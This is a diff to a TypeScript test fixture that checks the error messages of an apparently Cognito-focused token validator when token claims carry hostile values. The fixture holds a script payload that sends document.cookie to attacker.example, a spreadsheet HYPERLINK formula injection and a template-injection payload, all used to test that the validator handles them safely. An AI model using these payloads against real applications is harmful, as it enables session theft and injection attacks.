@@ -13,49 +13,49 @@ export const text: readonly Row[] = [
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    'The ID token is valid, but it still says “name” is “<script>fetch(’https://attacker.example/?’+document.cookie)…”; the user’s value is now “Ada Byron”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    "The ID token is valid, but it still says “name” is “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user’s value is now “Ada Byron”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.",
     ['HTML as name', id({ name: SCRIPT })],
   ),
   ...rows(
     {},
     'GOOD',
-    'In order: an access token of “acme-production” to the app client “acme-web” for “<script>fetch(’https://attacker.example/?’+document.cookie)…”, which ends in 42 minutes; not known yet: whether it was revoked since and whether the backend knows the user, which an online check can tell.',
+    "In order: an access token of “acme-production” to the app client “acme-web” for “<script>fetch('https://attacker.example/?'+document.cookie)…”, which ends in 42 minutes; not known yet: whether it was revoked since and whether the backend knows the user, which an online check can tell.",
     ['HTML as username, the same in the pool', access({ username: SCRIPT }), named(SCRIPT)],
   ),
   ...rows(
     { issuer: 'ISSUER_FOREIGN' },
     'ISSUER_FOREIGN',
-    'This is not a token of Cognito: “<script>fetch(’https://attacker.example/?’+document.cookie)…” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.',
+    "This is not a token of Cognito: “<script>fetch('https://attacker.example/?'+document.cookie)…” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.",
     ['HTML as issuer', access({ iss: SCRIPT })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “<script>fetch(’https://attacker.example/?’+document.cookie)…”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    "The pool has no app client “<script>fetch('https://attacker.example/?'+document.cookie)…”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.",
     ['HTML as client', access({ client_id: SCRIPT })],
   ),
   ...rows(
     { use: 'USE_UNKNOWN' },
     'USE_UNKNOWN',
-    'The token says that it is for “<script>fetch(’https://attacker.example/?’+document.cookie)…” (token_use), and Cognito’s tokens are for “id” or “access”: another program made it; get one by signing in.',
+    "The token says that it is for “<script>fetch('https://attacker.example/?'+document.cookie)…” (token_use), and Cognito’s tokens are for “id” or “access”: another program made it; get one by signing in.",
     ['HTML as use', access({ token_use: SCRIPT })],
   ),
   ...rows(
     { algorithm: 'ALGORITHM_NOT_ALLOWED' },
     'ALGORITHM_NOT_ALLOWED',
-    'The token says that it is signed with “<script>fetch(’https://attacker.example/?’+document.cookie)…”, and Cognito only signs with RS256: another system made or changed it; get one by signing in.',
+    "The token says that it is signed with “<script>fetch('https://attacker.example/?'+document.cookie)…”, and Cognito only signs with RS256: another system made or changed it; get one by signing in.",
     ['HTML as alg', access({}, { alg: SCRIPT })],
   ),
   ...rows(
     { key: 'KEY_UNKNOWN' },
     'KEY_UNKNOWN',
-    'No pool that Lifeguard knows has the key “<script>fetch(’https://attacker.example/?’+document.cookie)…” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.',
+    "No pool that Lifeguard knows has the key “<script>fetch('https://attacker.example/?'+document.cookie)…” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.",
     ['HTML as key id', attacker.sign(accessClaims, { kid: SCRIPT })],
   ),
   ...rows(
     {},
     'STALE_GROUPS',
-    'The access token is valid, but it still names the group “<script>fetch(’https://attacker.example/?’+document.cookie)…”; the user is now in the groups “customers, early-access”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    "The access token is valid, but it still names the group “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user is now in the groups “customers, early-access”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.",
     ['HTML as a group', access({ 'cognito:groups': [SCRIPT] })],
   ),
   ...rows(
@@ -118,13 +118,13 @@ export const text: readonly Row[] = [
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “=HYPERLINK(’https://attacker.example’)”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    "The pool has no app client “=HYPERLINK('https://attacker.example')”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.",
     ['a spreadsheet formula as client', access({ client_id: '=HYPERLINK("https://attacker.example")' })],
   ),
   ...rows(
     { client: 'CLIENT_UNKNOWN' },
     'CLIENT_UNKNOWN',
-    'The pool has no app client “{{constructor.constructor(’alert(1)’)()}}”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.',
+    "The pool has no app client “{{constructor.constructor('alert(1)')()}}”, to which this access token was issued: the app client was deleted since; have the app use an app client of “acme-production” and sign in again.",
     ['a template as client', access({ client_id: '{{constructor.constructor("alert(1)")()}}' })],
   ),
   ...rows(
@@ -213,7 +213,7 @@ export const text: readonly Row[] = [
   ...rows(
     {},
     'STALE_ATTRIBUTES',
-    'The access token is valid, but it still says “custom:0” is “0”; the user has no such value any more (and 9999 more): this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
+    'The access token is valid, but it still says “custom:0” is “0”; the user has no such value any more, and 9,999 more claims have changed: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
     [
       '10,000 claims',
       access(Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`custom:${at}`, at]))),
@@ -240,7 +240,7 @@ export const text: readonly Row[] = [
   ...rows(
     { algorithm: 'ALGORITHM_NOT_ALLOWED', issuer: 'ISSUER_NOT_TEXT', time: 'TIME_NOT_SANE' },
     'ALGORITHM_NOT_ALLOWED',
-    'The token says how it is signed (alg) in a form that no token of Cognito has, “{’toString’:1}”: another system made or changed it; get one by signing in.',
+    "The token says how it is signed (alg) in a form that no token of Cognito has, “{'toString':1}”: another system made or changed it; get one by signing in.",
     [
       'a toString of its own in every member',
       access({ iss: { toString: 1 }, exp: { valueOf: 1 } }, { alg: { toString: 1 } }),
@@ -249,7 +249,7 @@ export const text: readonly Row[] = [
   ...rows(
     { client: 'CLIENT_MISSING' },
     'CLIENT_MISSING',
-    'The access token names its app client (client_id) in a form that no token of Cognito has, “{’toJSON’:’x’}”: Cognito did not make it so; get one by signing in.',
+    "The access token names its app client (client_id) in a form that no token of Cognito has, “{'toJSON':'x'}”: Cognito did not make it so; get one by signing in.",
     ['a toJSON of its own in every member', access({ aud: { toJSON: 1 }, client_id: { toJSON: 'x' } })],
   ),
 ];
